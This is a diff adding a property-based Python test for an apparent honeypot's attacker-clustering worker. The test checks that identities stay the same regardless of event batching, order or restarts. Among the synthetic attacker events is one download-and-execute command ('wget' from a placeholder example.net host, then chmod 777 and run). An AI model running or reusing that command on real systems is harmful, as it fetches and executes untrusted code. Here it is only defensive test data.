@@ -1,0 +1,83 @@
+# SPDX-License-Identifier: MIT
+"""The identities follow from the set of events and decisions: not from batches, order, restarts or repetition."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from uuid import UUID
+
+from hypothesis import Phase, given, settings
+from hypothesis import strategies as st
+from sqlalchemy import Engine, select
+from tests.decnet_workers.clusterer.scenes import (
+    Follower,
+    command,
+    event,
+    file,
+    hassh,
+    in_memory,
+    key,
+    partition,
+    password,
+    stack,
+)
+
+from decnet_core.events.catalogue import Payload
+from decnet_core.events.envelope import Event
+from decnet_models.database.engine import reading
+from decnet_models.identities.tables import identity_attacker, identity_core
+
+ATTACKERS = [f"192.0.2.{number}" for number in range(1, 15)] + ["2001:db8::1", "2001:db8::2", "2001:db8:1::1"]
+
+MAKERS: list[Callable[[str], Payload]] = [
+    key,
+    hassh,
+    stack,
+    file,
+    lambda name: command(f"wget http://{name}.example.net/a; chmod 777 a; ./a; run {name}"),
+    lambda name: command(f"own-{name} --flag; second-{name}; third-{name}"),
+    lambda name: password(f"user{name}", f"secret-{name}"),
+]
+
+
+@st.composite
+def logs(draw: st.DrawFn) -> list[Event]:
+    """Draw events of which many share something."""
+    picks = draw(
+        st.lists(
+            st.tuples(
+                st.sampled_from(ATTACKERS),
+                st.sampled_from(MAKERS),
+                st.sampled_from("abcdef"),
+                st.integers(0, 200) | st.integers(0, 20_000_000),
+            ),
+            min_size=1,
+            max_size=60,
+        )
+    )
+    return [event(attacker, make(name), at) for attacker, make, name, at in picks]
+
+
+def state(
+    engine: Engine,
+) -> tuple[dict[UUID, frozenset[str]], dict[str, str | None], list[tuple[str, str, str, float]]]:
+    with reading(engine) as connection:
+        c, f = identity_attacker.c, identity_core.c
+        cores = {row.attacker: row.core for row in connection.execute(select(c.attacker, c.core))}
+        weights = [tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight))]
+    return partition(engine), cores, sorted(weights)
+
+
+@settings(max_examples=25, deadline=None, phases=[phase for phase in Phase if phase is not Phase.shrink])
+@given(data=st.data(), log=logs())
+def test_batches_order_and_repetition_change_nothing(data: st.DataObject, log: list[Event]) -> None:
+    with in_memory() as whole, in_memory() as parts:
+        Follower(whole).run(log)
+        shuffled = data.draw(st.permutations(log))
+        follower = Follower(parts, data.draw(st.integers(1, 7)))
+        cuts = sorted(data.draw(st.lists(st.integers(0, len(log)), max_size=5)))
+        for start, end in zip([0, *cuts], [*cuts, len(log)], strict=True):
+            follower.run(shuffled[start:end])
+            if data.draw(st.booleans()):
+                follower = Follower(parts)
+        assert state(parts) == state(whole)
